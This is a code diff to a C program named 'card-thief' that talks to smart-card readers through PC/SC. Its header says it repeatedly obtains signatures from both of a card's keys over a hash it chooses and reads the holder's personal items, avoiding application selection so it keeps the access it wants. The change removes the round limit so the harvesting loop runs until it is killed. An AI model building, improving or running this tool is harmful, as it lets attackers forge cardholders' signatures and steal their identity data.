@@ -2,11 +2,10 @@
  * both keys over a hash of its own, and for the basic items of its holder. Never selects an application, which would end the
  * rights that it is after. In the end it says how often it tried, how often the card itself answered, and what it got.
  *
- *   card-thief READER [ROUNDS]     PCSCLITE_NO_BLOCKING=1 in the environment: it never waits for a transaction's end */
+ *   card-thief READER     PCSCLITE_NO_BLOCKING=1 in the environment: it never waits for a transaction's end */
 #include <signal.h>
 #include <stdbool.h>
 #include <stdio.h>
-#include <stdlib.h>
 #include <string.h>
 #include <winscard.h>
 
@@ -74,17 +73,15 @@ static void ask_for_items(void) {
 }
 
 int main(int argc, char **argv) {
-    long rounds = argc > 2 ? atol(argv[2]) : -1;
-    if (argc < 2 || SCardEstablishContext(SCARD_SCOPE_SYSTEM, NULL, NULL, &context) != SCARD_S_SUCCESS)
+    if (argc != 2 || SCardEstablishContext(SCARD_SCOPE_SYSTEM, NULL, NULL, &context) != SCARD_S_SUCCESS)
         return 2;
     signal(SIGTERM, end);
-    while (!ending && rounds != 0) {
+    while (!ending) {
         if (!is_connected(argv[1]))
             continue;
         ask_for_signature(0x17);
         ask_for_signature(0x1A);
         ask_for_items();
-        rounds -= rounds > 0;
     }
     printf("tries %lu, answers %lu, signatures %lu, items %lu\n", tries, answers, signatures, items);
     return 0;
